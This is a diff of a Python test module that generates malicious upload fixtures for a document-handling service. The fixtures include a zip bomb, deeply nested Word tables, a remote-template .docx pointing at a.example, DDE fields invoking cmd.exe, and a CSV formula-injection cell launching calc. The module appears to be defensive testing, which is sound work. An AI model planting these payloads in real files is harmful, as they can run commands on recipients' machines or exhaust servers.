@@ -7,16 +7,32 @@ import zlib
 from collections.abc import Callable, Iterable
 from functools import cache
 
+from ledger.roster import PEOPLE
+from ledger.roster_form import workbook
+from models.vocabulary import MediaType
+
 WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
 EXCEL = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
+PACKAGE = "http://schemas.openxmlformats.org/package/2006"
+OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
 MEGABYTE = 1 << 20
+SECTOR, STREAM = 512, 4096
+"""Bytes: of a sector of an Office file before 2007, and of the shortest stream it keeps apart."""
+FREE, END, TABLE = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD
+"""What such a file says of its sectors."""
+DDE = r"DDEAUTO c:\\windows\\system32\\cmd.exe /k"
+
+
+def marks() -> str:
+    """Return a password of one letter with 100,000 accents."""
+    return "e" + "\u0301" * 100_000
 
 
 @cache
 def zip_bomb() -> bytes:
     """Return a workbook of 300 kB whose only sheet is 300 MB of nothing."""
     sheet = f'<worksheet xmlns="{EXCEL}"><sheetData>'.encode()
-    return _zipped("xl/worksheets/sheet1.xml", (sheet, *([b" " * MEGABYTE] * 300)))
+    return _zipped({"xl/worksheets/sheet1.xml": (sheet, *([b" " * MEGABYTE] * 300))})
 
 
 def wide_docx() -> bytes:
@@ -24,13 +40,13 @@ def wide_docx() -> bytes:
     cells = b"<w:tc><w:p/></w:tc>" * 10_000
     head = f'<w:document xmlns:w="{WORD}"><w:body><w:tbl>'.encode()
     rows = b"<w:tr>%s</w:tr>" % cells
-    return _zipped("word/document.xml", (head, rows, b"</w:tbl></w:body></w:document>"))
+    return _zipped({"word/document.xml": (head, rows, b"</w:tbl></w:body></w:document>")})
 
 
 def nested_docx() -> bytes:
     """Return a Word file whose tables lie in one another 100,000 deep."""
     head = f'<w:document xmlns:w="{WORD}"><w:body>'.encode()
-    return _zipped("word/document.xml", (head, b"<w:tbl><w:tr><w:tc>" * 100_000))
+    return _zipped({"word/document.xml": (head, b"<w:tbl><w:tr><w:tc>" * 100_000)})
 
 
 def wide_csv() -> bytes:
@@ -65,30 +81,117 @@ def huge_picture() -> bytes:
     )
 
 
-LEDGERS: dict[str, Callable[[], bytes]] = {
-    "bomb.xlsx": zip_bomb,
-    "wide.docx": wide_docx,
-    "nested.docx": nested_docx,
-    "wide.csv": wide_csv,
-    "long.csv": long_cells_csv,
-}
-"""What is sent as a ledger."""
-EVIDENCE: dict[str, Callable[[], bytes]] = {
-    "script.pdf": scripted_pdf,
-    "nested.pdf": nested_pdf,
-    "huge.png": huge_picture,
-    "bomb.xlsx": zip_bomb,
-}
-"""What is sent as evidence."""
+def template_docx() -> bytes:
+    """Return a Word file that fetches its template from the web."""
+    template = "https://a.example/a.dotm"
+    return _docx({
+        "word/_rels/document.xml.rels": f'<Relationships xmlns="{PACKAGE}/relationships">'
+        f'<Relationship Id="r1" Type="{OFFICE}/attachedTemplate" Target="{template}"'
+        ' TargetMode="External"/></Relationships>'.encode()
+    })  # fmt: skip
 
 
-def _zipped(name: str, pieces: Iterable[bytes]) -> bytes:
+def object_docx() -> bytes:
+    """Return a Word file with an object of another program in it."""
+    return _docx({"word/embeddings/oleObject1.bin": _compound("CONTENTS", b"")})
+
+
+def dde_docx() -> bytes:
+    """Return a Word file with a field that runs a program."""
+    return _docx({
+        "word/document.xml": f'<w:document xmlns:w="{WORD}"><w:body><w:p>'
+        f'<w:fldSimple w:instr="{DDE}"/></w:p></w:body></w:document>'.encode()
+    })  # fmt: skip
+
+
+def old_doc() -> bytes:
+    """Return a file of Word before 2007 with a field that runs a program."""
+    head = b"\xec\xa5".ljust(1024, b"\0")
+    return _compound("WordDocument", head + f"\x13{DDE}\x14\x15".encode("utf-16-le"))
+
+
+def formula_csv() -> bytes:
+    """Return a CSV whose last cell of many is a formula that runs a program."""
+    return "姓名,说明\r\n".encode() + "张三,已整改\r\n".encode() * 50_000 + b"a,=cmd|'/c calc'!A0"
+
+
+def nameless_roster(people: int = 49_000) -> bytes:
+    """Return a roster with as many people as may be, none of whom has a name."""
+    rows = ((f"zhang{number}", "") for number in range(people))
+    return workbook({PEOPLE: [("登录名", "姓名"), *rows]})
+
+
+def endless_notice() -> bytes:
+    """Return a notice on days off that is all dates, each with a weekday that it does not have."""
+    dates = "1月1日（周一）上班，" * 800
+    return f"关于2027年部分节假日安排的通知。一、元旦：{dates}放假。".encode()
+
+
+SENT: dict[str, dict[str, Callable[[], bytes]]] = {
+    "ledger": {
+        "bomb.xlsx": zip_bomb,
+        "wide.docx": wide_docx,
+        "nested.docx": nested_docx,
+        "wide.csv": wide_csv,
+        "long.csv": long_cells_csv,
+    },
+    "evidence": {
+        "script.pdf": scripted_pdf,
+        "nested.pdf": nested_pdf,
+        "huge.png": huge_picture,
+        "bomb.xlsx": zip_bomb,
+        "template.docx": template_docx,
+        "object.docx": object_docx,
+        "dde.docx": dde_docx,
+        "old.doc": old_doc,
+        "formula.csv": formula_csv,
+    },
+    "roster": {"bomb.xlsx": zip_bomb, "nameless.xlsx": nameless_roster},
+    "notice": {"nested.docx": nested_docx, "endless.txt": endless_notice},
+}
+"""What is sent, by the door that it is sent to."""
+
+
+def _docx(parts: dict[str, bytes]) -> bytes:
+    types = (
+        f'<Types xmlns="{PACKAGE}/content-types"><Override PartName="/word/document.xml"'
+        f' ContentType="{MediaType.DOCX.value}.main+xml"/></Types>'
+    )
+    empty = f'<w:document xmlns:w="{WORD}"/>'.encode()
+    parts = {"[Content_Types].xml": types.encode(), "word/document.xml": empty} | parts
+    return _zipped({name: (content,) for name, content in parts.items()})
+
+
+def _zipped(parts: dict[str, Iterable[bytes]]) -> bytes:
     out = io.BytesIO()
-    archive = zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED)
-    with archive, archive.open(name, "w", force_zip64=True) as part:
-        for piece in pieces:
-            part.write(piece)
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, pieces in parts.items():
+            with archive.open(name, "w", force_zip64=True) as part:
+                for piece in pieces:
+                    part.write(piece)
     return out.getvalue()
+
+
+def _compound(name: str, content: bytes) -> bytes:
+    """Return a file of Office before 2007 with one stream: a head, a table, a directory, it."""
+    content = content.ljust(STREAM, b"\0")
+    sectors = len(content) // SECTOR
+    table = (TABLE, END, *range(3, 2 + sectors), END)
+    head = struct.pack(
+        "<8s16xHHHHH6xIIIIIIIII", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", 0x3E, 3, 0xFFFE, 9, 6,
+        0, 1, 1, 0, STREAM, END, 0, END, 0,
+    )  # fmt: skip
+    entries = (("Root Entry", 5, 1, END, 0), (name, 2, FREE, 2, len(content)))
+    directory = b"".join(
+        called.encode("utf-16-le").ljust(64, b"\0")
+        + struct.pack(
+            "<HBBIII36xIQ", 2 * len(called) + 2, kind, 1, FREE, FREE, child, start, length
+        )
+        for called, kind, child, start, length in entries
+    )
+    places = struct.pack("<109I", 0, *[FREE] * 108)
+    listed = struct.pack(f"<{len(table)}I", *table).ljust(SECTOR, b"\xff")
+    return head + places + listed + directory.ljust(SECTOR, b"\0") + content
 
 
 def _pdf(catalogue: bytes, more: Iterable[bytes] = ()) -> bytes:
